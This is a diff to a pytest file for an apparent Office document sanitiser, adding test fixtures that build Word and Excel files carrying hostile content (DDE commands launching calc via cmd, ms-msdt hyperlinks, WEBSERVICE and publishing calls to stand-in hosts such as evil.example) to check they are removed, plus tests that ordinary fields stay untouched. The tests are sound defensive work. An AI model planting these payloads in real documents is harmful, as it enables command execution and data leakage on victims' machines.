@@ -113,6 +113,10 @@ THREATS: dict[str, tuple[bytes, set[str], bytes]] = {
     "DDE in UTF-16": (ooxml("docx", main=word_main(instruction("DDE", "AUTO calc") + TEXT).decode().replace("UTF-8", "UTF-16").encode("utf-16")), {"dde"}, b"DDE"),
     "picture from elsewhere": (word(instruction("INCLUDEPICTURE https://evil.example/x")), {"remote-image"}, b"evil"),
     "macro button": (word(instruction("MACROBUTTON Run x")), {"macro"}, b"MACROBUTTON"),
+    "field link behind a switch": (word(instruction('HYPERLINK \\o "tip" "ms-msdt:/id x"')), {"hyperlink"}, b"msdt"),
+    "field link behind a switch without value": (word(instruction("HYPERLINK \\h file://evil/x")), {"hyperlink"}, b"evil"),
+    "second target of a field link": (word(instruction('HYPERLINK "https://example.com/" "file://evil/x"')), {"hyperlink"}, b"evil"),
+    "DDE in text of the code": (word(field("PAGE").replace("<w:r><w:instrText", "<w:r><w:t>DDEAUTO evil </w:t></w:r><w:r><w:instrText", 1)), {"action"}, b"PAGE"),
     "field link to ms-msdt": (word(instruction('HYPERLINK "ms-msdt:/id x"')), {"hyperlink"}, b"msdt"),
     "template": (word("", parts={"word/settings.xml": settings_part('<w:attachedTemplate r:id="rId1"/>')}, relationships={"word/document.xml": [("settings", "settings.xml", False)], "word/settings.xml": [("attachedTemplate", ADDRESS, True)]}, overrides={"word/settings.xml": W + "settings+xml"}), {"remote-template"}, b"attachedTemplate"),
     "frame": (word("", parts={"word/webSettings.xml": settings_part('<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>')}, relationships={"word/document.xml": [("webSettings", "webSettings.xml", False)], "word/webSettings.xml": [("frame", ADDRESS, True)]}, overrides={"word/webSettings.xml": W + "webSettings+xml"}), {"external-relationship"}, b"evil"),
@@ -132,6 +136,10 @@ THREATS: dict[str, tuple[bytes, set[str], bytes]] = {
     "formula with DDE": (workbook("<c r='A1'><f>cmd|'/c calc'!A0</f><v>1</v></c>"), {"dde"}, b"calc"),
     "formula that loads": (workbook('<c r="A1"><f>_xlfn.WEBSERVICE("https://evil.example/"&amp;B1)</f><v>1</v></c>'), {"external-relationship"}, b"evil"),
     "formula that calls": (workbook('<c r="A1"><f>CALL("x","y","z")</f><v>1</v></c>'), {"macro"}, b"CALL"),
+    "formula in two pieces": (workbook("<c r='A1'><f>1+<x/>cmd|'/c calc'!A0</f><v>1</v></c>"), {"dde"}, b"calc"),
+    "function by name": (workbook('<c r="A1"><f>_xlfn.MAP(B1,_xleta.WEBSERVICE)</f><v>1</v></c>'), {"external-relationship"}, b"WEBSERVICE"),
+    "function in a name": (workbook("", "<definedName name='a'>_xlfn.LET(_xlpm.f,_xleta.HYPERLINK,_xlpm.f(One!$A$1))</definedName>"), {"external-relationship"}, b"HYPERLINK"),
+    "publishing": (workbook('<c r="A1"/></row></sheetData><webPublishItems><webPublishItem destinationFile="//evil/x"/></webPublishItems><sheetData><row>'), {"external-relationship"}, b"evil"),
     "link by formula": (workbook('<c r="A1"><f>HYPERLINK("ms-msdt:x","y")</f><v>1</v></c>'), {"hyperlink"}, b"msdt"),
     "automatic name": (workbook("", '<definedName name="_xlnm.Auto_Open">One!$A$1</definedName>'), {"xlm"}, b"Auto_Open"),
     "macro sheet": (workbook("", kind="xlsm", parts={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='x'><f>EXEC(1)</f></xm:macrosheet>"}, relationships={"more": [(MICROSOFT + "xlMacrosheet", "macrosheets/sheet1.xml", False)]}, overrides={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"}), {"xlm", "macro"}, b"EXEC"),
@@ -173,6 +181,35 @@ def test_what_was_made_harmless_is_not_changed_again(what: str) -> None:
     again = disarm(once.data)
     assert again.data is once.data
     assert again.removed == ()
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'HYPERLINK "https://example.com/" \\o "tip" \\t _blank \\* MERGEFORMAT',
+        "HYPERLINK \\l _Toc1 \\h",
+        'HYPERLINK "mailto:a@example.com"',
+        "PAGE \\* Arabic",
+    ],
+)
+def test_ordinary_fields_stay(code: str) -> None:
+    content = word(instruction(code))
+    assert disarm(content).data is content
+
+
+def test_the_result_of_a_field_in_the_code_of_another_is_ordinary() -> None:
+    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
+    codes = [f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in ("IF ", "MERGEFIELD a", "value", " = 1 2 3")]
+    inner = f"{begin}{codes[1]}{separate}{codes[2]}{end}"
+    content = word(f"<w:p>{begin}{codes[0]}{inner}{codes[3]}{separate}<w:r><w:t>2</w:t></w:r>{end}</w:p>")
+    assert disarm(content).data is content
+
+
+def test_a_macro_sheet_under_another_label_is_refused() -> None:
+    sheets = parts(workbook(""))
+    sheets["xl/worksheets/sheet1.xml"] = b"<xm:macrosheet xmlns:xm='x'/>"
+    with pytest.raises(Refused, match="ambiguous"):
+        disarm(zipped(sheets))
 
 
 def test_the_codes_have_words() -> None:
